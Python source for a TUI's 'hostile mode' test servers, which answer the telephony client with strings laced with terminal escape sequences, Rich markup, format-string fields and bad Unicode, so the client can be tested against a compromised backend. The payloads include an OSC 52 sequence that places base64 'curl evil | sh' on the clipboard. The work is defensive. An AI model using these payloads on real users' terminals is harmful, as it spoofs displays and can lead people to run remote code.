"""The demo's hostile mode: every string the demo servers answer is an attack on the client.

Why: the app promises to be safer than curl with production telephony credentials, and
what it shows is decided by Tether, ElevenLabs and Sinch (or by whatever sits in front of
them). A compromised or buggy server can put Rich markup, terminal control sequences or
``str.format`` fields into any string. This mode makes the demo stack that server, on
loopback, so the app and the scripts can be run against it end to end
(``tether-voice demo-server --hostile``, ``DemoStack(hostile=True)`` in the tests).

What each string carries (:meth:`Hostility.text`), by kind:

- ``markup``: ``[b]x[/b]``, ``[@click=app.quit]q[/]`` (an action on click), and markup
  that does not parse: ``[/x]``, ``[object Object]`` (a JavaScript backend's everyday
  error message);
- ``escapes``: ESC CSI (clear the screen, move the cursor to paint ``SPOOFED``), OSC 0
  (window title), OSC 52 (``curl evil | sh`` into the clipboard), the one-byte C1 CSI
  U+009B, DEL, a bidi override (U+202E) and isolate (U+2066), zero-width characters
  (U+200B, U+FEFF), the line separator U+2028, a lone CR, a newline;
- ``format``: ``{reload}``, ``{reload.__class__.__mro__}``, ``{0:>99999999}``;
- ``surrogate`` (only when asked): half of a surrogate pair, ``\\ud83d`` in the JSON:
  what a JavaScript string cut mid-emoji serialises to. Valid JSON, but no UTF-8 encoder
  takes it, and a client must send an ID holding one back (a toggle's ``userId``).

Each string starts with a marker, ``PWN-<where>``, repeated after every terminal
sequence, so a test that finds a sequence on the terminal knows which string it came
from. Headers carry the same text without what cannot be on a header line (CR, LF, the
surrogate), as UTF-8.

The contract's shapes are kept (types, IDs, booleans, tokens), so the app reaches every
screen. Where the strings are:

- Tether: provider, project ID, trunk ID, trunk domain, unknown fields (names and
  values, one nested) in the GET; the profile's and login's user (ID, name, email, role,
  organization); agents (IDs, names, descriptions); phone numbers and user IDs; every
  error (``error`` string, or ``code``/``message``/``details``) and success ``message``;
  ``Retry-After`` of every 429; ``Location`` of a redirect (:meth:`redirect_next`).
- ElevenLabs: every error ``message`` (401, 403, 429, 422), webhook names and URLs, an
  agent's name; the wiring reads': phone numbers' labels and agent names, an agent's
  name, a tool's name and URL (the hostile text after the URL's path, so the host still
  says whose tool it is), secrets' names, conversations' termination reasons.
- Sinch: the token server's ``error_description``; the trunk's ``domain``, ``name`` and
  ``hostName``; every EST error ``message``; endpoints' names and addresses, credential
  lists' and ACLs' names, IP ranges' descriptions; the Numbers API's ``displayName`` and
  its error ``message``.
- A fault injected into a hostile server (``--fault``) is hostile too: its JSON strings,
  its HTML page's title, its ``Retry-After``.

What the hostile Tether does, so a test can aim at each answer:

- a save that sets ``sinchEstTrunkId`` is refused (400, structured, hostile code,
  message and details); any other save is applied and answered with a hostile message;
- toggles, in the numbers' order: ``+14165550101`` off is applied (hostile message);
  the number ``phone-3`` always has a call in flight (409, hostile ``code``);
  ``phone-4`` is not on the trunk (400 ``NUMBER_NOT_ON_TRUNK``, a code the app knows,
  hostile message); ``+14165550102`` is always rate limited (429, hostile
  ``Retry-After``), which stops a batch; ``+14165550105`` names an agent not listed.

Stdlib only, like the rest of the demo.
"""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterable
from dataclasses import dataclass
from typing import Any

from tui.demo.elevenlabs import ElevenLabsStandIn
from tui.demo.loopback import JsonHandler, RouteTable
from tui.demo.numbers_data import DemoAgent, NumbersData
from tui.demo.numbers_routes import TOGGLE_PATH
from tui.demo.server import CONFIG_PATH, TETHER_ROUTES, DemoServer, bearer_user
from tui.demo.sinch import SinchAuthStandIn, SinchEstStandIn
from tui.demo.sinch_numbers import SinchNumbersStandIn
from tui.demo.state import DemoState, InvalidUpdate

__all__ = [
    "BANNER_NOTE",
    "DEFAULT_KINDS",
    "KINDS",
    "OSC52_PAYLOAD",
    "PHONE_PLAIN",
    "REFUSED_FIELD",
    "HostileElevenLabs",
    "HostileSinchAuth",
    "HostileSinchEst",
    "HostileSinchNumbers",
    "HostileTether",
    "Hostility",
    "hostile_state",
]

KINDS = ("markup", "escapes", "format", "surrogate")
"""The kinds of attack a hostile string can carry; :class:`Hostility` picks some."""

DEFAULT_KINDS = ("markup", "escapes", "format")
"""What the hostile mode carries unless told: not ``surrogate``, with which the client's
models refuse the whole answer (pydantic will not take the string), so no screen past
the load would be reached."""

OSC52_PAYLOAD = "Y3VybCBldmlsIHwgc2g="
"""base64 of ``curl evil | sh``: what OSC 52 would put into the clipboard."""

REFUSED_FIELD = "sinchEstTrunkId"
"""A save that sets this field is refused by the hostile Tether, with a hostile error."""

PHONE_PLAIN = ("+14165550101", "+14165550102", "+14165550105")
"""The numbers a script can type (``numbers set``): plain, with hostile user IDs."""

BANNER_NOTE = (
    "HOSTILE mode: every string these servers answer carries markup, terminal escapes and\n"
    "  format fields, marked PWN-<where>; a save that sets sinchEstTrunkId is refused.\n"
    "  Run the app in a terminal you can close: it is what is being tested.\n"
)
"""What ``demo-server --hostile`` adds to its banner."""

_RATE_LIMITED = "+14165550102"
_ALWAYS = 10**9
"""Toggles that find the call still in flight: every one."""

_MARKUP = "[b]x[/b] [@click=app.quit]q[/] [/x] [object Object]"
_FORMAT = "{reload} {reload.__class__.__mro__} {0:>99999999}"
_HALF_A_PAIR = "\ud83d"
_NOT_ON_A_HEADER = re.compile("[\r\n\x0b\x0c\x00\ud800-\udfff]")


def _escapes(marker: str) -> str:
    return (
        f"\x1b[2J\x1b[6;66HSPOOFED {marker} "
        f"\x1b]0;PWNED {marker}\x07"
        f"\x1b]52;c;{OSC52_PAYLOAD}\x07{marker} "
        f"\x9b31m{marker}\x7f "
        f"\u202e{marker}\u2066\u200b\ufeff\u2028"
        f"cr\r{marker}\nnl {marker}"
    )


@dataclass(frozen=True)
class Hostility:
    """Which attacks the hostile strings carry (:data:`DEFAULT_KINDS` unless told) and how
    they are written."""

    kinds: frozenset[str] = frozenset(DEFAULT_KINDS)

    def __post_init__(self) -> None:
        unknown = set(self.kinds) - set(KINDS)
        if unknown or not self.kinds:
            raise ValueError(f"kinds must be some of {', '.join(KINDS)}; got {sorted(unknown)}")

    @classmethod
    def of(cls, *kinds: str) -> Hostility:
        return cls(frozenset(kinds or DEFAULT_KINDS))

    def text(self, where: str) -> str:
        """The hostile string put where ``where`` names, marked ``PWN-<where>``."""
        marker = f"PWN-{where}"
        parts = [marker]
        if "markup" in self.kinds:
            parts.append(_MARKUP)
        if "escapes" in self.kinds:
            parts.append(_escapes(marker))
        if "format" in self.kinds:
            parts.append(_FORMAT)
        if "surrogate" in self.kinds:
            parts.append(_HALF_A_PAIR)
        return " ".join(parts)

    def header(self, where: str) -> str:
        """The same for a header line: no CR, LF, VT, FF, NUL or surrogate; UTF-8 on the
        wire (``http.server`` writes a header as Latin-1, so the UTF-8 bytes are given
        as the Latin-1 characters of the same values)."""
        text = _NOT_ON_A_HEADER.sub(" ", self.text(where))
        return text.encode("utf-8").decode("latin-1")


# --- the Tether organization ------------------------------------------------------------


def _agents(h: Hostility) -> list[DemoAgent]:
    return [
        DemoAgent("64f0a1b2c3d4e5f6a7b8cc01", h.text("agent-1-name"), h.text("agent-1-about")),
        DemoAgent(h.text("agent-2-id"), h.text("agent-2-name"), h.text("agent-2-about")),
        DemoAgent(
            "64f0a1b2c3d4e5f6a7b8cc05",
            h.text("agent-3-name"),
            h.text("agent-3-about"),
            synced=False,
        ),
        # A hidden copy of agent 2 and another agent 1: names alone do not say which,
        # so the app tells them apart by "(hidden)" and by the end of the (hostile) ID.
        DemoAgent(
            "64f0a1b2c3d4e5f6a7b8cc06",
            h.text("agent-2-name"),
            h.text("agent-4-about"),
            hidden=True,
            copied_from=h.text("agent-2-id"),
        ),
        DemoAgent(h.text("agent-5-id"), h.text("agent-1-name"), h.text("agent-5-about")),
    ]


def _rows(h: Hostility) -> list[dict[str, Any]]:
    # In the order a batch sends them: applied, in flight (409), not on the trunk (400),
    # then rate limited (429), which stops a batch; then one whose agent is not listed.
    return [
        {
            "userId": h.text("user-1"),
            "phoneNumber": PHONE_PLAIN[0],
            "aiEnabled": True,
            "aiAgentId": "64f0a1b2c3d4e5f6a7b8cc01",
        },
        {
            "userId": h.text("user-3"),
            "phoneNumber": h.text("phone-3"),
            "aiEnabled": True,
            "aiAgentId": h.text("agent-2-id"),
        },
        {
            "userId": h.text("user-4"),
            "phoneNumber": h.text("phone-4"),
            "aiEnabled": False,
            "aiAgentId": None,
        },
        {
            "userId": h.text("user-2"),
            "phoneNumber": _RATE_LIMITED,
            "aiEnabled": False,
            "aiAgentId": h.text("agent-2-id"),
        },
        {  # an agent the list does not have: the app can only show its ID
            "userId": h.text("user-5"),
            "phoneNumber": PHONE_PLAIN[2],
            "aiEnabled": True,
            "aiAgentId": h.text("agent-unknown-id"),
        },
    ]


def hostile_state(h: Hostility | None = None) -> DemoState:
    """The seeded organization (secrets configured) with a hostile string in every string."""
    h = h or Hostility()
    state = DemoState.seeded()
    state.mutate(
        aiVoiceProvider=h.text("provider"),
        sinchEstProjectId=h.text("projectId"),
        sinchEstTrunkId=h.text("trunkId"),
        sinchEstTrunkDomain=h.text("trunkDomain"),
    )
    rows = _rows(h)
    state.edit_phone_numbers(lambda stored: stored.__setitem__(slice(None), rows))
    state.numbers = NumbersData(
        agents=_agents(h),
        not_on_trunk={h.text("phone-4")},
        calls_in_flight={h.text("phone-3"): _ALWAYS},
    )
    return state


# --- one-off answers: a redirect --------------------------------------------------------


class _Redirects:
    """Requests still to be answered with a redirect (method None: any), thread-safe."""

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self._pending: list[str | None] = []

    def push(self, method: str | None, times: int) -> None:
        with self._lock:
            self._pending.extend([method.upper() if method else None] * times)

    def take(self, method: str) -> bool:
        with self._lock:
            for index, wanted in enumerate(self._pending):
                if wanted is None or wanted == method.upper():
                    del self._pending[index]
                    return True
        return False


def _with_redirects(routes: RouteTable) -> RouteTable:
    """Each route first answers a queued redirect (307, hostile ``Location``)."""

    def wrap(route: Any) -> Any:
        def answer(request: JsonHandler, body: bytes) -> None:
            owner = request.owner
            if isinstance(owner, _Hostile) and owner.redirects.take(request.command):
                location = owner.hostility.header("location")
                error = {"success": False, "error": owner.hostility.text("redirect-error")}
                request.send_json(307, error, ("Location", location))
                return
            route(request, body)

        return answer

    return {
        path: {m: wrap(route) for m, route in methods.items()} for path, methods in routes.items()
    }


class _Hostile:
    """What the five hostile servers share: the hostility, redirects, and the rewrite of
    every answer (a JSON body's strings, an HTML page's title, the headers)."""

    hostility: Hostility
    redirects: _Redirects

    def __init__(self, *args: Any, hostility: Hostility | None = None, **kwargs: Any) -> None:
        """The server's own arguments, and ``hostility`` (default: every kind). Set before
        the server's constructor runs: it builds the default state from it."""
        self.hostility = hostility or Hostility()
        self.redirects = _Redirects()
        super().__init__(*args, **kwargs)

    def redirect_next(self, *, method: str | None = None, times: int = 1) -> None:
        """Answer the next ``times`` routed requests (of ``method``; None: any) with a
        307 whose ``Location`` is hostile."""
        self.redirects.push(method, times)

    def rewrite_json(self, request: JsonHandler, status: int, payload: Any) -> Any:
        """A decoded JSON answer, made hostile; each server says where its strings are."""
        return payload

    def rewrite_answer(
        self,
        request: JsonHandler,
        status: int,
        body: bytes,
        content_type: str | None,
        headers: tuple[tuple[str, str], ...],
    ) -> tuple[bytes, tuple[tuple[str, str], ...]]:
        h = self.hostility
        media = (content_type or "").split(";")[0].strip()
        if media == "application/json" and 0 < len(body) < 1024 * 1024:
            try:
                payload = json.loads(body)
            except ValueError:  # a malformed-JSON fault stays malformed
                payload = None
            else:
                payload = self.rewrite_json(request, status, payload)
                body = json.dumps(payload).encode()
        elif media == "text/html":
            page = body.decode("utf-8", "replace")
            page = re.sub(
                r"<title>.*?</title>",
                lambda _: f"<title>{h.text('html-title')}</title>",
                page,
                flags=re.S,
            )
            body = page.encode("utf-8", "surrogatepass")  # half a surrogate: bad UTF-8
        if status == 429:
            headers = (*_without(headers, "Retry-After"), ("Retry-After", h.header("retry-after")))
        return body, headers


def _without(headers: Iterable[tuple[str, str]], name: str) -> tuple[tuple[str, str], ...]:
    return tuple((key, value) for key, value in headers if key.lower() != name.lower())


# --- Tether -------------------------------------------------------------------------------

_USER_FIELDS = ("_id", "id", "fullName", "email", "accessRole", "organizationId")


def _hostile_user(h: Hostility, where: str, user: Any) -> Any:
    if not isinstance(user, dict):
        return user
    return {
        name: h.text(f"{where}-{name.lstrip('_')}") if name in _USER_FIELDS else value
        for name, value in user.items()
    }


def _structured(h: Hostility, where: str, error: dict[str, Any]) -> dict[str, Any]:
    details = error.get("details")
    hostile = {
        **error,
        "code": h.text(f"{where}-code"),
        "message": h.text(f"{where}-message"),
    }
    if isinstance(details, list):
        hostile["details"] = [
            {
                **detail,
                "field": h.text(f"{where}-detail-field"),
                "message": h.text(f"{where}-detail-message"),
            }
            if isinstance(detail, dict)
            else detail
            for detail in details
        ]
    return hostile


def _save(request: JsonHandler, body: bytes) -> None:
    """The config POST, except that a save setting :data:`REFUSED_FIELD` is refused."""
    user = bearer_user(request)
    try:
        update = json.loads(body) if body.strip() else {}
    except ValueError:
        update = None
    superadmin = user is not None and user.access_role == "SUPERADMIN"
    if superadmin and isinstance(update, dict) and REFUSED_FIELD in update:
        state = request.owner.state
        assert isinstance(state, DemoState)
        state.record_post(update)
        refused = InvalidUpdate(
            "TRUNK_LOCKED",
            "The trunk cannot be changed",
            [{"field": REFUSED_FIELD, "message": "locked by the carrier"}],
        )
        request.send_json(400, refused.as_json())
        return
    TETHER_ROUTES[CONFIG_PATH]["POST"](request, body)


def _toggle(request: JsonHandler, body: bytes) -> None:
    """The toggle, except that one number is always rate limited (after the auth check)."""
    user = bearer_user(request)
    try:
        asked = json.loads(body) if body.strip() else {}
    except ValueError:
        asked = None
    if (
        user is not None
        and user.access_role == "SUPERADMIN"
        and isinstance(asked, dict)
        and asked.get("phoneNumber") == _RATE_LIMITED
    ):
        error = {"success": False, "error": "Too many toggles", "code": "RATE_LIMITED"}
        request.send_json(429, error, ("Retry-After", "5"))
        return
    TETHER_ROUTES[TOGGLE_PATH]["POST"](request, body)


HOSTILE_TETHER_ROUTES: RouteTable = _with_redirects(
    {
        **TETHER_ROUTES,
        CONFIG_PATH: {**TETHER_ROUTES[CONFIG_PATH], "POST": _save},
        TOGGLE_PATH: {"POST": _toggle},
    }
)


class HostileTether(_Hostile, DemoServer):
    """The Tether demo server, hostile: :func:`hostile_state` plus hostile answers."""

    name = "hostile-demo"
    ROUTES = HOSTILE_TETHER_ROUTES

    def default_state(self) -> DemoState:
        return hostile_state(self.hostility)

    def rewrite_json(self, request: JsonHandler, status: int, payload: Any) -> Any:
        h = self.hostility
        path = request.request_path()
        where = {
            CONFIG_PATH: "save" if request.command == "POST" else "load",
            TOGGLE_PATH: "toggle",
            "/api/user/profile": "profile",
            "/api/auth/login": "login",
            "/api/auth/verify-token": "verify",
            "/api/prompts/user": "prompts",
        }.get(path, "tether")
        if not isinstance(payload, dict):
            return payload
        payload = dict(payload)
        if path == CONFIG_PATH and "aiVoiceProvider" in payload:  # the GET
            payload[h.text("extra-name")] = h.text("extra-value")
            payload[h.text("extra-object-name")] = {
                h.text("extra-key"): h.text("extra-object-value"),
                "list": [h.text("extra-list-item"), 7, None, True],
            }
            return payload
        if "user" in payload:  # profile, login: the token is left as it is
            payload["user"] = _hostile_user(h, where, payload["user"])
        if isinstance(payload.get("message"), str):
            payload["message"] = h.text(f"{where}-message")
        error = payload.get("error")
        if isinstance(error, str):
            payload["error"] = h.text(f"{where}-error")
        elif isinstance(error, dict):
            payload["error"] = _structured(h, f"{where}-error", error)
        # A code the app knows keeps its guidance (the toggle's 400s); the others are hostile.
        if isinstance(payload.get("code"), str) and not (where == "toggle" and status == 400):
            payload["code"] = h.text(f"{where}-code")
        return payload


# --- ElevenLabs and Sinch -------------------------------------------------------------------


class HostileElevenLabs(_Hostile, ElevenLabsStandIn):
    """The ElevenLabs stand-in, hostile: error messages, webhooks, an agent's name, and
    the strings of the wiring reads (numbers, agents, tools, secrets, conversations)."""

    name = "hostile-elevenlabs"
    ROUTES = _with_redirects(ElevenLabsStandIn.ROUTES)

    def _rewrite_object(self, payload: Any) -> Any:
        h = self.hostility
        if not isinstance(payload, dict):
            return payload
        payload = dict(payload)
        detail = payload.get("detail")
        if isinstance(detail, dict):
            payload["detail"] = {**detail, "message": h.text("elevenlabs-message")}
        elif isinstance(detail, list):
            payload["detail"] = [
                {**item, "msg": h.text("elevenlabs-validation")} if isinstance(item, dict) else item
                for item in detail
            ]
        if isinstance(payload.get("webhooks"), list):
            payload["webhooks"] = [
                {
                    **webhook,
                    "name": h.text("elevenlabs-webhook-name"),
                    "webhook_url": h.text("elevenlabs-webhook-url"),
                }
                for webhook in payload["webhooks"]
            ]
        if isinstance(payload.get("agents"), list):
            agent = {"agent_id": "agent_hostile_0001", "name": h.text("elevenlabs-agent")}
            payload["agents"] = [*payload["agents"], agent]
        return self._wiring(payload)

    def rewrite_json(self, request: JsonHandler, status: int, payload: Any) -> Any:
        if isinstance(payload, list):  # the phone numbers: a bare array
            return [_hostile_phone(self.hostility, item) for item in payload]
        return self._rewrite_object(payload)

    def _wiring(self, payload: dict[str, Any]) -> dict[str, Any]:
        """The wiring reads' strings: an agent, a tool, secrets, conversations."""
        h = self.hostility
        if "agent_id" in payload and "conversation_config" in payload:
            payload["name"] = h.text("elevenlabs-agent-name")
            numbers = payload.get("phone_numbers")
            if isinstance(numbers, list):
                payload["phone_numbers"] = [_hostile_phone(h, item) for item in numbers]
        config = payload.get("tool_config")
        if isinstance(config, dict):
            config = {**config, "name": h.text("elevenlabs-tool-name")}
            schema = config.get("api_schema")
            if isinstance(schema, dict) and isinstance(schema.get("url"), str):
                url = schema["url"] + "/" + h.text("elevenlabs-tool-url")
                config["api_schema"] = {**schema, "url": url}
            payload["tool_config"] = config
        if isinstance(payload.get("secrets"), list):
            payload["secrets"] = [
                {**item, "name": h.text("elevenlabs-secret-name")}
                if isinstance(item, dict)
                else item
                for item in payload["secrets"]
            ]
        if isinstance(payload.get("conversations"), list):
            payload["conversations"] = [
                {**item, "termination_reason": h.text("elevenlabs-termination")}
                if isinstance(item, dict)
                else item
                for item in payload["conversations"]
            ]
        return payload


def _hostile_phone(h: Hostility, item: Any) -> Any:
    """An imported number with a hostile label and agent name (the number stays: it is
    the join key)."""
    if not isinstance(item, dict):
        return item
    item = {**item, "label": h.text("elevenlabs-phone-label")}
    if isinstance(item.get("assigned_agent"), dict):
        item["assigned_agent"] = {
            **item["assigned_agent"],
            "agent_name": h.text("elevenlabs-phone-agent"),
        }
    return item


class HostileSinchAuth(_Hostile, SinchAuthStandIn):
    """The Sinch token server, hostile: its ``error_description``."""

    name = "hostile-sinch-auth"
    ROUTES = _with_redirects(SinchAuthStandIn.ROUTES)

    def rewrite_json(self, request: JsonHandler, status: int, payload: Any) -> Any:
        if isinstance(payload, dict) and "error_description" in payload:
            return {**payload, "error_description": self.hostility.text("sinch-auth-description")}
        return payload


class HostileSinchEst(_Hostile, SinchEstStandIn):
    """The Sinch EST API, hostile: a trunk's domain, name and host; every error message;
    endpoints, credential lists and ACLs."""

    name = "hostile-sinch-est"
    ROUTES = _with_redirects(SinchEstStandIn.ROUTES)

    def rewrite_json(self, request: JsonHandler, status: int, payload: Any) -> Any:
        h = self.hostility
        if not isinstance(payload, dict):
            return payload
        payload = dict(payload)
        if "domain" in payload:
            payload.update(
                domain=h.text("sinch-domain"),
                name=h.text("sinch-trunk-name"),
                hostName=h.text("sinch-host"),
            )
        if isinstance(payload.get("message"), str):
            payload["message"] = h.text("sinch-message")
        if isinstance(payload.get("endpoints"), list):
            payload["endpoints"] = [
                {
                    **item,
                    "name": h.text("sinch-endpoint-name"),
                    "address": h.text("sinch-endpoint-address"),
                }
                if isinstance(item, dict)
                else item
                for item in payload["endpoints"]
            ]
        if isinstance(payload.get("credentialLists"), list):
            payload["credentialLists"] = [
                {**item, "name": h.text("sinch-credential-list")}
                if isinstance(item, dict)
                else item
                for item in payload["credentialLists"]
            ]
        if isinstance(payload.get("ipRanges"), list):  # an ACL
            payload["name"] = h.text("sinch-acl-name")
            payload["ipRanges"] = [
                {**item, "description": h.text("sinch-ip-range")}
                if isinstance(item, dict)
                else item
                for item in payload["ipRanges"]
            ]
        return payload


class HostileSinchNumbers(_Hostile, SinchNumbersStandIn):
    """The Sinch Numbers API, hostile: a number's ``displayName``; every error message."""

    name = "hostile-sinch-numbers"
    ROUTES = _with_redirects(SinchNumbersStandIn.ROUTES)

    def rewrite_json(self, request: JsonHandler, status: int, payload: Any) -> Any:
        h = self.hostility
        if not isinstance(payload, dict):
            return payload
        payload = dict(payload)
        if "displayName" in payload:
            payload["displayName"] = h.text("sinch-numbers-display-name")
        error = payload.get("error")
        if isinstance(error, dict):
            payload["error"] = {**error, "message": h.text("sinch-numbers-message")}
        return payload
